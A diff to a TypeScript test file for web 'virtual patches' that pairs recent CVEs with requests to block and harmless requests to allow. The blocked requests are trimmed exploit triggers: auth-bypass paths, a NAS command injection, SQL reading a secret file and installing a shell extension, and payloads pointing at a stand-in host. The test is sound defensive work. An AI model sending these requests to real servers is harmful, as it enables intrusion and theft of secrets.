@@ -164,6 +164,164 @@ const PATCHES: readonly { cve: string; id: number; stops: TestRequest[]; passes:
     ],
     passes: [{ headers: ['Content-Type', 'application/json'], body: '{"then":"$1:then"}' }],
   },
+  {
+    cve: 'CVE-2023-22518',
+    id: 19020,
+    stops: [{ method: 'POST', target: '/json/setup-restore.action?synchronous=true', body: 'x' }],
+    passes: [{ target: '/json/setup.action' }],
+  },
+  {
+    cve: 'CVE-2023-23752',
+    id: 19021,
+    stops: [{ target: '/api/index.php/v1/config/application?public=true' }],
+    passes: [{ target: '/api/index.php/v1/content/articles?public=true' }, { target: '/api/v1/users' }],
+  },
+  {
+    cve: 'CVE-2023-27350',
+    id: 19022,
+    stops: [{ target: '/app?service=page/SetupCompleted' }],
+    passes: [{ target: '/app?service=page/Home' }],
+  },
+  {
+    cve: 'CVE-2023-28432',
+    id: 19023,
+    stops: [{ method: 'POST', target: '/minio/bootstrap/v1/verify', body: 'x' }],
+    passes: [{ target: '/minio/health/live' }],
+  },
+  {
+    cve: 'CVE-2023-49103',
+    id: 19024,
+    stops: [
+      {
+        target: '/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css',
+      },
+    ],
+    passes: [{ target: '/apps/graphapi/css/a.css' }],
+  },
+  {
+    cve: 'CVE-2023-51467',
+    id: 19025,
+    stops: [{ target: '/webtools/control/ping?USERNAME=&PASSWORD=&requirePasswordChange=Y' }],
+    passes: [{ target: '/webtools/control/main' }, { target: '/account?requirePasswordChange=Y' }],
+  },
+  {
+    cve: 'CVE-2024-0012',
+    id: 19026,
+    stops: [{ target: '/php/ztp_gate.php/.js.map', headers: ['X-PAN-AUTHCHECK', 'off'] }],
+    passes: [{ target: '/php/login.php' }],
+  },
+  {
+    cve: 'CVE-2024-3273',
+    id: 19027,
+    stops: [{ target: '/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=' }],
+    passes: [{ target: '/cgi-bin/nas_sharing.cgi?cmd=1' }],
+  },
+  {
+    cve: 'CVE-2024-7593',
+    id: 19028,
+    stops: [{ target: '/apps/zxtm/wizard.fcgi?error=1&section=Access+Management%3ALocalUsers' }],
+    passes: [{ target: '/apps/zxtm/wizard.fcgi?section=Traffic' }],
+  },
+  {
+    cve: 'CVE-2024-9264',
+    id: 19029,
+    stops: [
+      form("sql=select content from read_blob('/srv/secret')"),
+      form('sql=install shellfs from community'),
+    ],
+    passes: [form("text=How do I call read_csv('prices.csv') in DuckDB?")],
+  },
+  {
+    cve: 'CVE-2024-10924',
+    id: 19030,
+    stops: [
+      {
+        target: '/?rest_route=/reallysimplessl/v1/two_fa/skip_onboarding',
+        headers: ['Content-Type', 'application/json'],
+        body: '{"user_id":1,"login_nonce":"1"}',
+      },
+    ],
+    passes: [{ target: '/?rest_route=/reallysimplessl/v1/two_fa/verify' }],
+  },
+  {
+    cve: 'CVE-2024-34102',
+    id: 19031,
+    stops: [
+      {
+        target: '/rest/V1/guest-carts/1/estimate-shipping-methods',
+        headers: ['Content-Type', 'application/json'],
+        body: '{"address":{"totalsReader":{"collectorList":{"totalCollector":{"sourceData":{"data":"http://a.example","dataIsURL":true}}}}}}',
+      },
+    ],
+    passes: [
+      {
+        target: '/rest/V1/guest-carts/1/estimate-shipping-methods',
+        headers: ['Content-Type', 'application/json'],
+        body: '{"address":{"city":"Bonn","countryId":"DE"}}',
+      },
+    ],
+  },
+  {
+    cve: 'CVE-2024-55591',
+    id: 19032,
+    stops: [{ target: '/ws/cli/open?cols=162&rows=100&local_access_token=x' }],
+    passes: [{ target: '/ws/cli/open?cols=162&rows=100' }],
+  },
+  {
+    cve: 'CVE-2024-56145',
+    id: 19033,
+    stops: [{ target: '/?--templatesPath=ftp://a.example/' }],
+    passes: [{ target: '/?--verbose=1' }, { target: '/?templatesPath=a' }],
+  },
+  {
+    cve: 'CVE-2025-1974',
+    id: 19034,
+    stops: [
+      {
+        headers: ['Content-Type', 'application/json'],
+        body: JSON.stringify({
+          request: {
+            object: {
+              metadata: { annotations: { 'x/auth-url': 'http://a/#;}}}\nssl_engine /proc/1/fd/2;\n' } },
+            },
+          },
+        }),
+      },
+    ],
+    passes: [
+      {
+        headers: ['Content-Type', 'application/json'],
+        body: JSON.stringify({
+          request: { object: { metadata: { annotations: { note: 'use load_module in nginx.conf' } } } },
+        }),
+      },
+    ],
+  },
+  {
+    cve: 'CVE-2025-31161',
+    id: 19035,
+    stops: [{ headers: ['Authorization', 'AWS4-HMAC-SHA256 Credential=crushadmin/'] }],
+    passes: [
+      {
+        headers: [
+          'Authorization',
+          'AWS4-HMAC-SHA256 Credential=AKIA/20260101/eu-1/s3/aws4_request, SignedHeaders=host, Signature=ab',
+        ],
+      },
+    ],
+  },
+  {
+    cve: 'CVE-2025-53770',
+    id: 19036,
+    stops: [
+      {
+        target: '/_layouts/15/ToolPane.aspx?DisplayMode=Edit',
+        ...form('a=b'),
+        headers: ['Content-Type', 'application/x-www-form-urlencoded', 'Referer', '/_layouts/SignOut.aspx'],
+      },
+    ],
+    passes: [{ target: '/_layouts/15/ToolPane.aspx?DisplayMode=Edit', headers: ['Referer', '/sites/a/'] }],
+  },
 ];
 
 describe('virtual patches', () => {
